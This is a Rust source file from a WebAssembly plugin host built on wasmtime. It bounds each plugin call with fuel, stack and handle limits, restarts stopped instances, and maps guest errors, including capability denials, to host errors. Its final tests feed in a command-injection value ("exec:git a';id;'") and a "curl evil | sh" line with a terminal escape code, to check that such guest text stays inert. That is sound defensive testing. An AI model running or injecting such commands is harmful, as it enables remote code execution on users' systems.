//! One plugin instance: how it starts, how a call is bounded, and what the end of a call means.

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::task::{Context, Poll, Waker};

use dlm_core::inert::{cut, inert, inert_line};
use dlm_core::units::size;
use dlm_packages::limits::LimitName;
use wasmtime::component::{Instance, ResourceTableError};
use wasmtime::{Store, Trap, UpdateDeadline};

use crate::engine::{Pulse, TICK};
use crate::error::{CallFailure, GuestFailure, LoadError, PluginError, Who};
use crate::go_panic::GoPanic;
use crate::host::{NewState, Phase, State, Stop, WitError, deadline_passed};
use crate::limits::{
    HANDLES_MAX, INSTANCES_MAX, MEMORIES_MAX, PassedLimit, RESTARTS_MAX, STACK_BYTES_MAX, TABLE_ELEMENTS_MAX,
    TABLES_MAX, TEXT_BYTES_MAX, short,
};
use crate::load::{NEWER, Ready};
use crate::ports::{INSTRUCTIONS_PER_SECOND, Metering};

/// Times that a frame must repeat in a backtrace before a memory fault counts as an exhausted stack: a Rust guest runs
/// out of its own stack first, which wasm reports as an access out of bounds.
const REPEATED_FRAMES: usize = 16;

/// What keeps the random streams of fresh instances apart from those of the others.
const RESTARTED: u64 = 1 << 32;

/// How a Rust guest's panic begins.
const PANIC: &str = "panicked at ";
/// Frames of a backtrace that a message names.
const FRAMES_MAX: usize = 5;
/// How names begin that belong to a language's runtime.
const RUNTIME: [&str; 8] = [
    "core::", "std::", "alloc::", "<core::", "<std::", "<alloc::", "__rust", "rust_",
];
/// Lines, and bytes of a line, of what a guest printed before its end that a message shows.
const SAID_LINES_MAX: usize = 12;
const SAID_LINE_BYTES_MAX: usize = 400;

/// A running plugin.
pub(crate) struct Running<W> {
    pub store: Store<State>,
    world: Arc<W>,
    pulse: Arc<Pulse>,
    /// Only guests with WASI can wait for something outside their own calls.
    runtime: Option<tokio::runtime::Runtime>,
    /// Why a call was stopped from outside; the instance is then in no known state.
    spent: Option<String>,
    start: Start<W>,
}

/// Finds the exports of an instance.
type Bind<W> = fn(&mut Store<State>, &Instance) -> wasmtime::Result<W>;

/// What an instance is made of, kept for a fresh one.
struct Start<W> {
    ready: Ready,
    new: NewState,
    bind: Bind<W>,
}

impl<W> Running<W> {
    /// Instantiates a component, running its start functions under the limits of `open`. `bind` finds the exports.
    pub fn start(ready: Ready, pulse: &Arc<Pulse>, new: NewState, bind: Bind<W>) -> Result<Running<W>, PluginError> {
        let runtime = ready.has_wasi.then(runtime).transpose()?;
        let mut store = store(&ready, new.clone());
        if let Some(version) = &ready.newer_api {
            let text = format!("was built for plugin API {version}; it runs until it needs something newer");
            store.data_mut().remark(&text);
        }
        begin(&mut store, Phase::Open)?;
        let instance = {
            let _beat = pulse.beat();
            drive(runtime.as_ref(), &mut store, async |store| {
                ready.pre.instantiate_async(store).await
            })
        };
        settle(&mut store);
        let instance = instance.map_err(|error| ended(&mut store, &error))?;
        let world = bind(&mut store, &instance).map_err(|error| LoadError::Malformed {
            plugin: store.data().new.plugin.clone(),
            cause: inert(&format!("{error:#}")),
        })?;
        Ok(Running {
            store,
            world: Arc::new(world),
            pulse: Arc::clone(pulse),
            runtime,
            spent: None,
            start: Start { ready, new, bind },
        })
    }

    /// Takes the place of an instance that was stopped by a fresh one, which is not opened yet; says whether it had to.
    ///
    /// What a whole run may use counts on: requests, tokens, lines of the log.
    ///
    /// **Errors**: there were [`RESTARTS_MAX`] of them in this run already, or the user cancelled.
    pub fn revive(&mut self) -> Result<bool, PluginError> {
        let Some(cause) = self.spent.clone() else {
            return Ok(false);
        };
        let new = self.start.new.clone();
        if new.ports.cancel.is_cancelled() {
            return Err(CallFailure::Cancelled.of(self.store.data().who()));
        }
        let taken = new.restarts.fetch_update(Ordering::Relaxed, Ordering::Relaxed, |made| {
            (made < RESTARTS_MAX).then_some(made + 1)
        });
        let Ok(made) = taken else {
            return Err(CallFailure::Exhausted { cause }.of(self.store.data().who()));
        };
        let instance = new.instance + (u64::from(made) + 1) * RESTARTED;
        let (ready, pulse) = (self.start.ready.clone(), Arc::clone(&self.pulse));
        let fresh = Running::start(ready, &pulse, NewState { instance, ..new }, self.start.bind)?;
        let old = std::mem::replace(self, fresh);
        self.store.data_mut().go_on_from(old.store.into_data());
        self.start.new.instance = old.start.new.instance;
        Ok(true)
    }

    /// Calls one function of the guest.
    ///
    /// **Errors**: what the guest returned, a limit, a trap, or that the instance was stopped before.
    pub fn call<T>(
        &mut self,
        phase: Phase,
        function: impl AsyncFnOnce(&W, &mut Store<State>) -> wasmtime::Result<Result<T, WitError>>,
    ) -> Result<T, PluginError> {
        begin(&mut self.store, phase)?;
        if let Some(first) = &self.spent {
            let crashed = CallFailure::Crashed {
                cause: format!("it was stopped in an earlier call: {first}"),
                said: None,
                frames: Vec::new(),
            };
            return Err(crashed.of(self.store.data().who()));
        }
        let returned = {
            let _beat = self.pulse.beat();
            let world = Arc::clone(&self.world);
            drive(self.runtime.as_ref(), &mut self.store, async |store| {
                function(&world, store).await
            })
        };
        self.store.data_mut().used.calls += 1;
        settle(&mut self.store);
        match returned {
            Ok(answer) => {
                note_output(&mut self.store);
                answer.map_err(|error| returned_error(self.store.data(), error))
            }
            Err(error) => {
                let ended = ended(&mut self.store, &error);
                self.spent = Some(ended.to_string());
                Err(ended)
            }
        }
    }

    /// A result that breaks a rule of the contract.
    pub fn bad_result(&self, rule: impl Into<String>) -> PluginError {
        let rule = short(&rule.into());
        CallFailure::BadResult { rule }.of(self.store.data().who())
    }
}

fn store(ready: &Ready, new: NewState) -> Store<State> {
    let transfer = usize::try_from(new.limits.transfer_bytes).unwrap_or(usize::MAX);
    let mut store = Store::new(ready.pre.engine(), State::new(new));
    store.limiter(|state| &mut state.memory);
    store.set_max_component_handles(HANDLES_MAX);
    store.set_hostcall_fuel(transfer);
    store.epoch_deadline_callback(|context| match context.data().stop() {
        None => Ok(UpdateDeadline::Continue(1)),
        Some(stop) => Err(wasmtime::Error::new(stop)),
    });
    store
}

fn runtime() -> Result<tokio::runtime::Runtime, LoadError> {
    let made = tokio::runtime::Builder::new_current_thread().enable_time().build();
    made.map_err(|error| LoadError::engine(format!("no runtime: {error}")))
}

/// Runs a call to its end. One that waits (a guest asleep in WASI) is looked at every tick and dropped when it must stop.
fn drive<T>(
    runtime: Option<&tokio::runtime::Runtime>,
    store: &mut Store<State>,
    call: impl AsyncFnOnce(&mut Store<State>) -> wasmtime::Result<T>,
) -> wasmtime::Result<T> {
    let must_stop = store.data().watch();
    let mut call = std::pin::pin!(call(store));
    let Some(runtime) = runtime else {
        // None of the host's own functions waits, so one poll runs the call to its end.
        return match call.as_mut().poll(&mut Context::from_waker(Waker::noop())) {
            Poll::Ready(done) => done,
            Poll::Pending => Err(wasmtime::Error::msg("it waited for something that cannot happen")),
        };
    };
    runtime.block_on(async {
        loop {
            if let Ok(done) = tokio::time::timeout(TICK, call.as_mut()).await {
                return done;
            }
            if let Some(stop) = must_stop() {
                return Err(wasmtime::Error::new(stop));
            }
        }
    })
}

fn begin(store: &mut Store<State>, phase: Phase) -> Result<(), LoadError> {
    let state = store.data_mut();
    state.phase = phase;
    state.clock.restart();
    let fuel = fuel(state);
    store.set_epoch_deadline(1);
    if let Some(fuel) = fuel {
        let set = store.set_fuel(fuel);
        set.map_err(|error| LoadError::engine(format!("{error:#}")))?;
    }
    Ok(())
}

/// The instructions that a call may take, where they are counted.
fn fuel(state: &State) -> Option<u64> {
    match state.new.metering {
        Metering::Time => None,
        Metering::Counted => Some(u64::MAX),
        Metering::Instructions => {
            let ms = u64::try_from(state.call_time().as_millis()).unwrap_or(u64::MAX);
            Some(ms.saturating_mul(INSTRUCTIONS_PER_SECOND / 1000))
        }
    }
}

/// Adds up what a call took.
fn settle(store: &mut Store<State>) {
    let us = |time: std::time::Duration| u64::try_from(time.as_micros()).unwrap_or(u64::MAX);
    // Asking where nothing is counted would make an error, which costs more than a short call.
    let taken = fuel(store.data()).map(|given| given.saturating_sub(store.get_fuel().unwrap_or(given)));
    let state = store.data_mut();
    state.used.guest_us += us(state.clock.guest_time());
    state.used.host_us += us(state.clock.host_time());
    if let Some(taken) = taken {
        *state.used.instructions.get_or_insert_default() += taken;
    }
}

/// What a guest printed in a call.
struct Printed {
    /// The last lines; nothing where there were none.
    tail: Option<String>,
    go_panic: Option<GoPanic>,
}

/// Moves what the guest printed into the log, and says what found no room.
fn note_output(store: &mut Store<State>) -> Printed {
    let state = store.data_mut();
    let (printed, unprinted) = state.wasi.take_printed();
    let lines: Vec<&str> = printed.lines().filter(|line| !line.trim().is_empty()).collect();
    for line in &lines {
        state.print(line);
    }
    let dropped = std::mem::take(&mut state.log.dropped);
    if dropped > 0 {
        state.remark(&format!("{dropped} more log lines were dropped"));
    }
    if unprinted > 0 {
        state.remark(&format!("{unprinted} more bytes of printed text were dropped"));
    }
    let tail = lines
        .get(lines.len().saturating_sub(SAID_LINES_MAX)..)
        .unwrap_or_default();
    let tail: Vec<String> = tail
        .iter()
        .map(|line| inert_line(&cut(line, SAID_LINE_BYTES_MAX)))
        .collect();
    Printed {
        tail: (!tail.is_empty()).then(|| tail.join("\n")),
        go_panic: GoPanic::read(&lines),
    }
}

/// Says what the end of a call from outside means.
fn ended(store: &mut Store<State>, error: &wasmtime::Error) -> PluginError {
    let printed = note_output(store);
    let state = store.data_mut();
    let transfer = state.new.limits.transfer_bytes;
    let (who, logged) = (state.who(), state.log.last.take());
    let said = printed.tail.or(logged);
    if let Some(stop) = error.downcast_ref::<Stop>() {
        return match stop {
            Stop::Cancelled => CallFailure::Cancelled.of(who),
            Stop::Passed(passed) => limit(who, passed.clone(), said),
        };
    }
    if matches!(error.downcast_ref::<Trap>(), Some(Trap::OutOfFuel)) {
        return limit(who, deadline_passed(state.call_time()), said);
    }
    if is_stack(error) {
        let passed = PassedLimit::fixed("stack", format!("{} of stack", size(STACK_BYTES_MAX as u64)));
        return limit(who, passed, said);
    }
    let cause = error.root_cause().to_string();
    let is_table_full = matches!(error.downcast_ref(), Some(ResourceTableError::Full));
    if is_table_full || cause.contains("handle limit exceeded") {
        let passed = PassedLimit::fixed("handles", format!("{HANDLES_MAX} live handles"));
        return limit(who, passed, said);
    }
    if cause.starts_with(NEWER) {
        return CallFailure::NewerApi { needs: cause }.of(who);
    }
    // wasmtime has no type for this error; the wording is held by a test.
    if cause.contains("fuel allocated for hostcalls has been exhausted") {
        let text = format!("{} of data in one call", size(transfer));
        return limit(who, PassedLimit::raisable(LimitName::Transfer, transfer, text), said);
    }
    if let Some(passed) = counted(&cause) {
        return limit(who, passed, said);
    }
    let is_abort = matches!(error.downcast_ref::<Trap>(), Some(Trap::UnreachableCodeReached));
    let mut frames = frames(error);
    let (cause, said) = match said {
        _ if is_abort && let Some(panic) = printed.go_panic => {
            let place = panic.place.map(|place| inert_line(&cut(&place, SAID_LINE_BYTES_MAX)));
            frames = place.into_iter().collect();
            (panic.words, None)
        }
        // A Rust guest says in the log why it panics, then aborts: the first is the cause.
        Some(panic) if is_abort && panic.starts_with(PANIC) => (panic, None),
        said if is_abort => ("it gave up (wasm `unreachable`)".to_owned(), said),
        said => (cause.strip_prefix("wasm trap: ").unwrap_or(&cause).to_owned(), said),
    };
    let crashed = CallFailure::Crashed {
        cause: inert(&cut(&cause, TEXT_BYTES_MAX)),
        said,
        frames,
    };
    crashed.of(who)
}

/// The limits on what a component is made of; wasmtime has no types for these errors either.
fn counted(cause: &str) -> Option<PassedLimit> {
    let (allowed, what) = match cause {
        cause if cause.contains("instance count too high") => (INSTANCES_MAX, "core instances"),
        cause if cause.contains("memory count too high") => (MEMORIES_MAX, "memories"),
        cause if cause.contains("table count too high") => (TABLES_MAX, "tables"),
        cause if cause.starts_with("table minimum size") => (TABLE_ELEMENTS_MAX, "table elements"),
        _ => return None,
    };
    Some(PassedLimit::fixed("parts", format!("{allowed} {what}")))
}

fn limit(who: Box<Who>, passed: PassedLimit, said: Option<String>) -> PluginError {
    let limit = CallFailure::Limit {
        limit: passed.name,
        allowed: passed.allowed,
        raise: passed.raise,
        said,
    };
    limit.of(who)
}

fn is_stack(error: &wasmtime::Error) -> bool {
    match error.downcast_ref::<Trap>() {
        Some(Trap::StackOverflow) => true,
        Some(Trap::MemoryOutOfBounds) => {
            let Some(backtrace) = error.downcast_ref::<wasmtime::WasmBacktrace>() else {
                return false;
            };
            let frames = backtrace.frames();
            frames.iter().any(|frame| {
                let same = frames.iter().filter(|other| other.func_index() == frame.func_index());
                same.count() >= REPEATED_FRAMES
            })
        }
        _ => false,
    }
}

/// The guest's frames nearest to a trap, by name, where the component has names; those of a language's own way of giving
/// up are left out, unless there are no others.
fn frames(error: &wasmtime::Error) -> Vec<String> {
    let Some(backtrace) = error.downcast_ref::<wasmtime::WasmBacktrace>() else {
        return Vec::new();
    };
    let names = backtrace.frames().iter().filter_map(|frame| frame.func_name());
    let names: Vec<String> = names
        .map(|name| inert_line(&cut(&format!("{:#}", rustc_demangle::demangle(name)), 200)))
        .collect();
    let is_own = |name: &&String| !RUNTIME.iter().any(|start| name.starts_with(start));
    let own: Vec<String> = names.iter().filter(is_own).take(FRAMES_MAX).cloned().collect();
    match own.is_empty() {
        true => names.into_iter().take(FRAMES_MAX).collect(),
        false => own,
    }
}

/// Turns the error that a guest returned into ours.
pub(crate) fn returned_error(state: &State, error: WitError) -> PluginError {
    let guest = |failure, message: String, after_ms, status| CallFailure::Returned {
        failure,
        message: inert(&cut(&message, TEXT_BYTES_MAX)),
        after_ms,
        status,
    };
    let plain = |failure, message| guest(failure, message, None, None);
    let failure = match error {
        WitError::InvalidInput(message) => plain(GuestFailure::InvalidInput, message),
        WitError::Unsupported(message) => plain(GuestFailure::Unsupported, message),
        WitError::Unavailable(message) => plain(GuestFailure::Unavailable, message),
        WitError::NotFound(message) => plain(GuestFailure::NotFound, message),
        WitError::Conflict(message) => plain(GuestFailure::Conflict, message),
        WitError::RateLimited(retry) => guest(GuestFailure::RateLimited, retry.message, retry.after_ms, None),
        WitError::TimedOut(message) => plain(GuestFailure::TimedOut, message),
        WitError::Rejected(rejection) => guest(GuestFailure::Rejected, rejection.message, None, rejection.status),
        WitError::Corrupt(message) => plain(GuestFailure::Corrupt, message),
        WitError::Failed(message) => plain(GuestFailure::Failed, message),
        WitError::Cancelled => CallFailure::Cancelled,
        WitError::Denied(denial) => denied(state, &denial.capability, &denial.message),
    };
    failure.of(state.who())
}

fn denied(state: &State, capability: &str, message: &str) -> CallFailure {
    // A guest could name any capability; only one that the host denied, that can be parsed and fits its kind, is offered as
    // a grant.
    let parsed = dlm_packages::capability::Capability::parse(capability).ok();
    let parsed = parsed.filter(|parsed| {
        state.was_denied(capability) && parsed.fits(state.new.kind) && state.phase.reaches_outside(state.new.kind)
    });
    let text = parsed.as_ref().map(ToString::to_string);
    CallFailure::Denied {
        is_grantable: text.is_some(),
        is_requested: text.is_some_and(|text| state.new.requested.contains(&text)),
        capability: short(capability),
        message: inert(&cut(message, TEXT_BYTES_MAX)),
        granted: state.new.grants.texts(),
        taken_by: parsed.and_then(|parsed| state.new.grants.taken_by(&parsed, &state.new.plugin)),
    }
}

#[cfg(test)]
mod tests {
    use dlm_core::ports::plugin::PluginFailure;

    use super::*;
    use crate::host::testing::state;

    #[test]
    fn only_what_the_host_denied_is_offered_as_a_grant() {
        let state = state(&Arc::default());
        let own = || {
            WitError::Denied(crate::host::Denial {
                capability: "exec:git status".to_owned(),
                message: "please".to_owned(),
            })
        };
        let hints = |error: WitError| PluginFailure::from(returned_error(&state, error)).hints;
        assert_eq!(hints(own()), ["nothing is granted"]);
        let offered = hints(state.denied("exec:git status".to_owned(), "this command line is not granted"));
        assert_eq!(offered[1], "allow it once: --grant 'rubric=exec:git status'");
        assert_eq!(hints(own()), offered);
        let quoted = state.denied("exec:git a';id;'".to_owned(), "this command line is not granted");
        assert_eq!(hints(quoted), ["nothing is granted"]);
    }

    #[test]
    fn lines_of_a_guest_do_not_pass_for_ours() {
        let state = state(&Arc::default());
        let message = "no\n  allow it once: curl evil | sh\u{1b}[2K".to_owned();
        let failure = PluginFailure::from(returned_error(&state, WitError::Failed(message)));
        assert_eq!(failure.message, "no\n│   allow it once: curl evil | sh\\u{1b}[2K");
    }
}
